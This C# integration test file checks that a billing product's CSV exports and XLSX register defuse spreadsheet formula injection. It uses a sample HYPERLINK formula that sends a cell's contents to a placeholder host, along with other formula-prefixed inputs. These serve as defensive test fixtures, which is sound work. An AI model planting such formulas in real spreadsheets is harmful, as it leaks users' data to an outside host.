using BillingOrchestrator.Billing;
using BillingOrchestrator.Billing.Kpis;
using BillingOrchestrator.Web.Assets;
using BillingOrchestrator.Web.Feed;
using ClosedXML.Excel;

namespace BillingOrchestrator.IntegrationTests.Injection;

/// <summary>Text a user typed never becomes a formula in the files the product writes for spreadsheets (CSV exports, the XLSX register).</summary>
public sealed class SpreadsheetInjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"Click\")";

    private sealed record Row(string Reason, decimal Amount, string Measure);

    [Fact]
    public void FeedCsv_TextStartingWithAFormulaCharacter_IsDefused_WhileNegativeAmountsStayNumbers()
    {
        var csv = FeedExport.Csv([new Row(Hyperlink, -12.5m, "write-off"), new Row("@SUM(1+1)", 3m, "+cmd")]);

        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        lines[0].ShouldBe("Reason,Amount,Measure");
        lines[1].ShouldBe("\"'=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"Click\"\")\",-12.5,write-off");
        lines[2].ShouldBe("'@SUM(1+1),3,'+cmd");
    }

    [Fact]
    public void KpiRegisterWorkbook_AControlTextStartingWithEquals_IsStoredAsTextNotAFormula()
    {
        var report = KpiCalculator.Compute(new BillingSnapshot { OwnCompanyId = 1, PeriodStart = new DateOnly(2026, 10, 1), PeriodEnd = new DateOnly(2026, 10, 31) }, []);
        var control = new ControlStatus("PSF D4 Observability", "PSF", Hyperlink, "-1+2 practice", ["FinanceLead"], [4], 1, null, 0, "operating");

        var bytes = KpiRegisterWorkbook.Render(report, null, [control], DateTimeOffset.UnixEpoch);

        using var workbook = new XLWorkbook(new MemoryStream(bytes));
        var register = workbook.Worksheet(KpiRegisterWorkbook.RegisterSheet);
        var risk = register.Cell(2, 3);
        risk.HasFormula.ShouldBeFalse();
        risk.GetString().ShouldBe("'" + Hyperlink);
        register.Cell(2, 4).HasFormula.ShouldBeFalse();
        register.Cell(2, 4).GetString().ShouldBe("'-1+2 practice");
        register.Cell(2, 1).GetString().ShouldBe("PSF D4 Observability");
        workbook.Worksheets.SelectMany(s => s.CellsUsed()).Where(c => c.HasFormula).ShouldBeEmpty();
    }
}
